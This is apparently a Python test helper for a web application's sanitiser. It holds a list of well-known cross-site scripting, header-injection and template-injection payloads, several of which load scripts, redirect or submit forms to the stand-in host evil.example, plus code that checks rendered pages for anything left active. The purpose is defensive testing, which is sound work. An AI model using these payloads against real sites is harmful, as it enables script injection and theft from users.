"""Hostile words, and what is not to come alive on a page that shows them.

The payloads are the public classics (OWASP and PortSwigger cheat sheets, the mutation tricks of DOMPurify's history).
Each would set `window.__xss`, leave for `evil.example`, or take the form away.
"""

from collections.abc import Iterator
from itertools import count

from bs4 import BeautifulSoup, Tag

from tests.console.clerk import Sheet

RUN = "window.__xss=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.__xss=1></script>",
    f"<svg onload={RUN}>",
    f"<svg/onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.__xss=1/>#x'/></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=&#119;indow.__xss=1 {RUN}>",
    f"<img/src/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img src=//evil.example/x.png srcset=//evil.example/y.png onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style=animation-name:spin onanimationstart={RUN} onpointerenter={RUN}>x</p>",
    f"<x contenteditable onblur={RUN} onfocus={RUN} tabindex=1 autofocus>x</x>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='JaVaScRiPt&colon;{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    "<a href='data:text/html,<script>window.__xss=1</script>'>x</a>",
    f"[x](javascript:{RUN})",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.__xss=1;{RUN}</script>'></iframe>",
    "<object data='data:text/html,<script>window.__xss=1</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<button formaction=//evil.example form=policy>x</button>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(//evil.example/x.png);width:expression(window.__xss=1)'>x</p>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mtext></p><style><!--</style><img src=x onerror={RUN}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<title><p id='</title><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet ><img src=x onerror={RUN}>?>",
    f"</textarea></title></script></style><img src=x onerror={RUN}>",
    f'"><script>{RUN}</script>',
    f"' onfocus={RUN} autofocus='",
    f'" autofocus onfocus={RUN} x="',
    f"`onfocus={RUN} autofocus",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}{%raw%}",
    f"\u202e<b onmouseover={RUN}>x</b>\u2066\u200b",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
    f"＜script＞{RUN}＜/script＞<\u0338script>{RUN}</script>",
    "x\r\nSet-Cookie: gongbu=evil\r\nLocation: //evil.example\r\n\r\n<b>x",
    f"<div hx-get=//evil.example hx-trigger=load hx-on::load={RUN} data-hx-post=/logout>x</div>",
    "<div hx-ext=sse sse-connect=//evil.example>x</div>",
    f"<p data-picture=//evil.example data-keep data-confirm={RUN} id=main class=summary>x</p>",
)
#: What must not come alive on a page.
ELEMENTS = {"object", "embed", "base", "math", "template", "video", "audio", "marquee", "xmp", "x"}
#: What we have on our own pages, and from where.
OURS = {"script": "/assets/", "link": "/assets/", "iframe": "/releases/"}
ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "hx-get", "sse-connect"}
SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg", "//")


def alive(sheet: Sheet) -> Iterator[str]:
    """What of the page would act, or fetch from elsewhere: read by two parsers, for they disagree on broken markup."""
    for parser, soup in (("lxml", sheet.soup), ("html.parser", BeautifulSoup(sheet.text, "html.parser"))):
        for tag in soup.find_all(True):
            if _is_alive(tag):
                yield f"{parser}: {str(tag)[:160]}"


def _is_alive(tag: Tag) -> bool:
    if tag.name in ELEMENTS or (tag.name.startswith("scr") and tag.name != "script"):
        return True
    if tag.name in {"svg", "style", "noscript"} and ("evil" in str(tag) or "__xss" in str(tag)):
        return True
    fetched = str(tag.get("src") or tag.get("href") or "")
    if tag.name == "link" and tag.get("rel") in (["alternate"], ["canonical"], ["icon"]):
        return "evil" in fetched or "__xss" in fetched
    if tag.name in OURS:
        return not fetched.startswith(OURS[tag.name])
    return (tag.name == "meta" and tag.has_attr("http-equiv")) or any(
        _acts(name, str(value)) for name, value in tag.attrs.items()
    )


def _acts(name: str, value: str) -> bool:
    given = "".join(c for c in value if c > " ").lower()
    if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc", "xlink:href"}:
        return True
    is_ours = given.startswith("/") and given[1:2] not in {"/", "\\"}
    return name in ADDRESSES and (given.startswith(SCHEMES) or ("evil.example" in given and not is_ours))


class Doses:
    """Takes the payloads in turn, as many as fit."""

    def __init__(self) -> None:
        self._turn = count()

    def take(self, limit: int = 200) -> str:
        taken = ""
        for _ in range(len(PAYLOADS)):
            payload = PAYLOADS[next(self._turn) % len(PAYLOADS)]
            if len(taken) + len(payload) > limit:
                break
            taken += payload
        return taken or PAYLOADS[0]
